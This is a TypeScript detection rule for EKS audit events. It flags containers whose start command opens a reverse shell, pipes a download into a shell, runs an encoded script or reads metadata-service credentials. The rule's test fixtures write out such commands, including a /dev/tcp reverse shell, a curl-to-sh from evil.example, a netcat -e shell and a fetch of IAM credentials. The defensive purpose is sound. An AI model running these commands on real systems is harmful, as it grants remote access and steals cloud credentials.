import type { AuditEvent } from '../../ingest';
import { actor, actorName, containersOf, created, isSystemIdentity, ownerWorkload, workloadKind } from '../../kube';
import { redact } from '../../util';
import type { RuleDetector } from '../types';
import { baseEntities } from './lib/actor';
import { type CommandRisk, type CommandRiskKind, commandRisks, HIGH_RISKS } from './lib/command-analysis';
import { exampleEvent } from './lib/example-events';
import { writesPodSpec } from './lib/pod-security';

/**
 * The risks that are an attack whatever runs them. A container's own command reaching the
 * metadata service or reading its token is odd but has honest uses (an init container reading
 * the region), so those are medium; a plain download is what init containers do, so it is left out.
 */
const ATTACK_RISKS: ReadonlySet<CommandRiskKind> = new Set(['reverse-shell', 'download-and-execute', 'encoded-script']);

interface Flagged {
  container: string;
  command: string;
  risks: CommandRisk[];
}

/** The containers an event writes whose command and arguments carry a risk (ephemeral ones are exec sessions: not here). */
function flagged(event: AuditEvent): Flagged[] {
  if (!writesPodSpec(event) || event.objectRef?.subresource) return [];
  // Pods the controllers make from a template repeat the template's finding.
  if (isSystemIdentity(actor(event))) return [];
  const out: Flagged[] = [];
  for (const container of containersOf(event)) {
    if (container.kind === 'ephemeralContainer') continue;
    const words = [container.spec.command, container.spec.args].flatMap((part) =>
      Array.isArray(part) ? part.filter((w): w is string => typeof w === 'string') : [],
    );
    if (words.length === 0) continue;
    const command = words.join(' ').slice(0, 4096);
    const risks = commandRisks(command).filter((r) => HIGH_RISKS.has(r.kind));
    if (risks.length > 0) out.push({ container: container.name, command, risks });
  }
  return out;
}

function deployment(command: string[], args?: string[]) {
  return exampleEvent({
    verb: 'create',
    resource: 'deployments',
    apiGroup: 'apps',
    namespace: 'web',
    name: 'helper',
    responseCode: 201,
    requestObject: {
      kind: 'Deployment',
      apiVersion: 'apps/v1',
      metadata: { name: 'helper' },
      spec: { template: { spec: { containers: [{ name: 'main', image: 'alpine:3.20', command, args }] } } },
    },
  });
}

export const suspiciousContainerCommand: RuleDetector<AuditEvent> = {
  id: 'audit.suspicious-container-command',
  kind: 'rule',
  source: 'eks-audit',
  title: 'Workload written with a suspicious command',
  description:
    "A pod or a workload's pod template was written with a container command or arguments that open a reverse " +
    'shell, pipe a download into an interpreter or run an encoded script (high), or reach the instance metadata ' +
    'service or read a token or node credential (medium): the same checks as audit.suspicious-exec-command, on what ' +
    'the container runs from its start. A foothold that restarts with the pod, without any exec to see.',
  severity: 'high',
  mitre: ['T1610', 'T1059.004', 'T1105', 'T1552.005'],
  dedupeMinutes: 24 * 60,
  equivalents: {
    falco: 'none',
    guardduty: 'none',
    elastic: 'none',
    sigma: 'none',
  },
  runbook:
    "Read the workload's command (`kubectl get deploy NAME -o yaml`) and who wrote it. If it is not yours, scale it " +
    'to zero or delete it, block the address it calls, and treat its service account, its node and whatever the ' +
    'writer could reach as exposed; find how the writer got the right to create workloads.',

  detect(event) {
    const found = flagged(event);
    if (found.length === 0) return undefined;
    const ref = event.objectRef;
    const owner = ownerWorkload(event);
    const kind = workloadKind(ref?.resource);
    const kinds = [...new Set(found.flatMap((f) => f.risks.map((r) => r.kind)))].sort();
    const attack = kinds.some((k) => ATTACK_RISKS.has(k));
    const first = found[0] as Flagged;
    const shown = redact(first.command).slice(0, 300);
    return {
      severity: attack ? 'high' : 'medium',
      summary:
        `${actorName(event)} ${created(event) ? 'created' : 'changed'} ${kind} ${owner.namespace}/${owner.name} with ` +
        `container ${first.container} running "${shown}": ${first.risks.map((r) => r.detail).join('; ')}.`,
      entities: {
        ...baseEntities(event),
        workload: `${owner.kind} ${owner.namespace}/${owner.name}`,
        command: shown,
        risks: kinds,
      },
      evidence: `${event.verb} ${kind} ${owner.namespace}/${owner.name} container ${first.container} command="${shown}"`,
      dedupeKey: `${owner.namespace}/${owner.name}|${kinds.join(',')}`,
    };
  },

  examples: {
    fires: [
      deployment(['/bin/sh', '-c'], ['bash -i >& /dev/tcp/198.51.100.7/4444 0>&1']),
      deployment(['sh', '-c', 'curl -fsSL https://evil.example/x.sh | sh']),
      deployment(['curl', '-s', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/']),
    ],
    quiet: [
      deployment(['nginx', '-g', 'daemon off;']),
      deployment(['wget', '-O', '/data/seed.tar.gz', 'https://downloads.example.org/seed.tar.gz']),
      exampleEvent({
        verb: 'create',
        resource: 'pods',
        namespace: 'web',
        user: 'system:serviceaccount:kube-system:replicaset-controller',
        responseCode: 201,
        requestObject: {
          kind: 'Pod',
          spec: {
            containers: [{ name: 'main', image: 'alpine', command: ['sh', '-c', 'nc 198.51.100.7 4444 -e /bin/sh'] }],
          },
        },
      }),
    ],
  },
};
